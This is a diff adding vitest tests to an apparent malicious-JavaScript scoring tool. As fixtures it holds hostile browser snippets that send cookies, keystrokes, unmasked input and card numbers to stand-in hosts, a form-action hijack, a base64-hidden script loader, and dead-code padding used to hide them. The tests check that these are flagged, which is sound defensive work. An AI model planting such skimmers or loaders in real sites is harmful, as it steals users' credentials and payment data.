@@ -1,5 +1,5 @@
 import fc from 'fast-check'
-import { expect, test } from 'vitest'
+import { describe, expect, test } from 'vitest'
 import { MALICIOUS_BELOW, type ScriptVerdict, scoreScript } from './index.ts'
 import { MAX_SCORED_LENGTH } from './limits.ts'
 import { HONEST_CASES } from './honest-scripts.cases.ts'
@@ -114,6 +114,86 @@ test('a malicious verdict names the rule and what it found', () => {
     found: 'cookie to //a.example/?c= by image',
     weight: null,
   })
+})
+
+describe('a recorder of sessions', () => {
+  const recorder = (value: string, more = ''): string =>
+    `(function(){var q=[];new MutationObserver(function(m){q.push({t:Date.now(),n:m.length})}).observe(document,{subtree:true});['mousemove','scroll','click'].forEach(function(k){addEventListener(k,function(e){q.push({t:Date.now(),k:k,x:e.clientX})})});addEventListener('input',function(e){var n=e.target;q.push({t:Date.now(),v:${value}})},true);${more}setInterval(function(){if(q.length)navigator.sendBeacon('https://in.replay.example/v1',JSON.stringify(q.splice(0)))},5000)})()`
+  const MASKED = `n.type==='password'||/cc-|card/.test(n.autocomplete)?'*'.repeat(n.value.length):n.value`
+
+  test('is named and not condemned where it leaves out what is secret', () => {
+    const { scores, reasons } = scoreScript(recorder(MASKED))
+    expect(reasons.find(({ name }) => name === 'session-recorder')).toMatchObject({
+      score: 'dataflow_score',
+      kind: 'practice',
+      found: expect.stringContaining('https://in.replay.example/v1'),
+    })
+    expect(scores?.js_integrity_score ?? 0).toBeGreaterThanOrEqual(MALICIOUS_BELOW)
+    expect(reasons.filter(({ kind }) => kind === 'rule')).toEqual([])
+  })
+
+  test.each([
+    ['leaves nothing out', recorder('n.value')],
+    [
+      'asks for the card itself',
+      recorder(
+        MASKED,
+        `setInterval(function(){new Image().src='https://in.replay.example/i?c='+document.querySelector('#cc_number').value},900);`,
+      ),
+    ],
+    ['hides from tools', recorder(MASKED, 'if(outerWidth-innerWidth>160)return;')],
+  ])('is none where it %s', (_, source) => {
+    expect(scoreScript(source).reasons.map(({ name }) => name)).not.toContain('session-recorder')
+  })
+
+  test('that asks for the card itself is condemned', () => {
+    const asks = `document.querySelector('#pay').onclick=function(){new Image().src='https://in.replay.example/i?c='+btoa(document.querySelector('#cc_number').value)};`
+    expect(scoreScript(recorder(MASKED, asks)).scores?.js_integrity_score).toBeLessThan(MALICIOUS_BELOW)
+  })
+})
+
+const DEAD_CODE: readonly (readonly [string, (hostile: string) => string])[] = [
+  ['statements before it', (hostile) => `${'var a=1;a=a*2+1;if(a>1e9){a=0}'.repeat(300)}${hostile}`],
+  [
+    'functions before it',
+    (hostile) =>
+      Array.from({ length: 400 }, (_, i) => `function f${i}(a,b){return a*${i}+b-Math.max(a,b)}`).join('\n') +
+      `\n${hostile}`,
+  ],
+  [
+    'functions around it, in one statement',
+    (hostile) =>
+      `(function(){${Array.from({ length: 400 }, (_, i) => `var f${i}=function(a){return a.concat([${i}])};`).join('')}${hostile};${Array.from({ length: 200 }, (_, i) => `function g${i}(a){return a-${i}}`).join('')}})()`,
+  ],
+]
+const SHORT_HOSTILES: readonly (readonly [string, string])[] = [
+  ['all cookies', `new Image().src='//a.example/?c='+document.cookie`],
+  [
+    'keys',
+    `var k='';document.onkeypress=function(e){k+=e.key;fetch('https://a.example/k',{method:'POST',body:k})}`,
+  ],
+  ['fields of a checkout', SKIMMER],
+  [
+    'a form given another address',
+    `var f=document.forms[0];f.onsubmit=function(){var a=this.action;this.action='https://p.example.net/';setTimeout(function(){f.action=a},9)}`,
+  ],
+  [
+    'a loader that hides its host',
+    `if(document.referrer&&/Windows/.test(navigator.userAgent)){var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9nYXRlLmV4YW1wbGUubmV0L3guanM=');document.head.appendChild(s)}`,
+  ],
+]
+test.each(
+  DEAD_CODE.flatMap(([padding, pad]) =>
+    SHORT_HOSTILES.map(([name, hostile]) => [name, padding, pad(hostile)] as const),
+  ),
+)('%s: no %s hide that', (_, __, source) => {
+  expect(scoreScript(source).scores?.js_integrity_score).toBeLessThan(MALICIOUS_BELOW)
+})
+
+test.each(DEAD_CODE)('%s: none of it is hostile alone', (_, pad) => {
+  const { scores, reasons } = scoreScript(pad('document.title="x"'))
+  expect(scores?.js_integrity_score ?? 0).toBeGreaterThanOrEqual(MALICIOUS_BELOW)
+  expect(reasons.filter(({ kind }) => kind === 'rule' || kind === 'sign')).toEqual([])
 })
 
 test('what goes to an own host does not leave', () => {
